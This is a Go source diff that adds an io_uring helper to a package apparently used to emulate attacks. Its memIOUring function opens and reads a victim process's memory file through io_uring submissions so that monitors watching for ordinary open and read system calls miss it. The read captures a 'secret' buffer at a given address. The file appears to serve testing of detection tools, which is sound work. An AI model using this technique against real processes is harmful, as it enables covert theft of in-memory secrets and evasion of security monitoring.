@@ -1,0 +1,140 @@
+package emulate
+
+import (
+	"errors"
+	"fmt"
+	"runtime"
+	"sync/atomic"
+	"unsafe"
+
+	"golang.org/x/sys/unix"
+)
+
+// ring is an io_uring of one entry; include/uapi/linux/io_uring.h.
+type ring struct {
+	fd     int
+	params ringParams
+	rings  []byte // the heads and tails, and what is completed
+	entry  []byte // what is submitted
+}
+
+type ringParams struct {
+	entries, completions, flags, cpu, idle, features, queue uint32
+	_                                                       [3]uint32
+	submit                                                  struct {
+		head, tail, mask, entries, flags, dropped, array, _ uint32
+		_                                                   uint64
+	}
+	complete struct {
+		head, tail, mask, entries, overflow, entry, flags, _ uint32
+		_                                                    uint64
+	}
+}
+
+// submission is the part of an entry that is used here.
+type submission struct {
+	operation, flags uint8
+	priority         uint16
+	fd               int32
+	offset, address  uint64
+	length, how      uint32
+}
+
+const (
+	ringOpenat         = 18
+	ringRead           = 22
+	ringEntrySize      = 64
+	ringResultSize     = 16
+	ringGetEvents      = 1
+	ringOffsetEntries  = 0x10000000
+	ringFeatSingleMmap = 1
+)
+
+func newRing() (_ *ring, err error) {
+	r := &ring{}
+	fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&r.params)), 0) //nolint:gosec // what a system call takes are addresses
+	if errno != 0 {
+		return nil, named("io_uring_setup", errno)
+	}
+	r.fd = int(fd)
+	defer func() {
+		if err != nil {
+			err = errors.Join(err, r.close())
+		}
+	}()
+	if r.params.features&ringFeatSingleMmap == 0 {
+		return nil, fmt.Errorf("io_uring before Linux 5.4: %w", unix.ENOSYS)
+	}
+	length := max(r.params.complete.entry+r.params.completions*ringResultSize, r.params.submit.array+4*r.params.entries)
+	if r.rings, err = unix.Mmap(r.fd, 0, int(length), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED); err != nil {
+		return nil, named("mmap", err)
+	}
+	r.entry, err = unix.Mmap(r.fd, ringOffsetEntries, ringEntrySize, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
+	return r, named("mmap", err)
+}
+
+// do submits one operation, waits for it and returns its result.
+func (r *ring) do(s submission) (int, error) {
+	clear(r.entry)
+	*(*submission)(unsafe.Pointer(&r.entry[0])) = s //nolint:gosec // the kernel's own layout
+	*r.word(r.params.submit.array) = 0
+	atomic.AddUint32(r.word(r.params.submit.tail), 1)
+	for {
+		_, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(r.fd), 1, 1, ringGetEvents, 0, 0)
+		if errno == 0 {
+			break
+		}
+		if errno != unix.EINTR {
+			return 0, named("io_uring_enter", errno)
+		}
+	}
+	head := atomic.LoadUint32(r.word(r.params.complete.head))
+	at := r.params.complete.entry + head%r.params.completions*ringResultSize
+	result := int32(*r.word(at + 8)) //nolint:gosec // an errno is negative
+	atomic.AddUint32(r.word(r.params.complete.head), 1)
+	if result < 0 {
+		return 0, unix.Errno(-result)
+	}
+	return int(result), nil
+}
+
+func (r *ring) word(at uint32) *uint32 {
+	return (*uint32)(unsafe.Pointer(&r.rings[at])) //nolint:gosec // the kernel says where
+}
+
+func (r *ring) close() error {
+	var errs []error
+	for _, mapped := range [][]byte{r.rings, r.entry} {
+		if mapped != nil {
+			errs = append(errs, unix.Munmap(mapped))
+		}
+	}
+	return errors.Join(append(errs, unix.Close(r.fd))...)
+}
+
+// memIOUring opens and reads the file without a system call that says so.
+func memIOUring(s *striker) error {
+	r, err := newRing()
+	if err != nil {
+		return err
+	}
+	path, err := unix.BytePtrFromString(memPath(s.Victim.PID))
+	if err != nil {
+		return errors.Join(err, r.close())
+	}
+	s.at("IORING_OP_OPENAT")
+	fd, err := r.do(submission{
+		operation: ringOpenat, fd: unix.AT_FDCWD, address: uint64(uintptr(unsafe.Pointer(path))), how: unix.O_RDONLY | unix.O_CLOEXEC, //nolint:gosec // the kernel takes addresses
+	})
+	runtime.KeepAlive(path)
+	if err != nil {
+		return errors.Join(named("IORING_OP_OPENAT", err), r.close())
+	}
+	s.at("IORING_OP_READ")
+	into := s.secret()
+	_, err = r.do(submission{
+		operation: ringRead, fd: int32(fd), offset: s.Victim.Address, //nolint:gosec // a descriptor is an int in the kernel
+		address: uint64(uintptr(unsafe.Pointer(&into[0]))), length: secretLength, //nolint:gosec // the kernel takes addresses
+	})
+	return errors.Join(named("IORING_OP_READ", err), unix.Close(fd), r.close())
+}
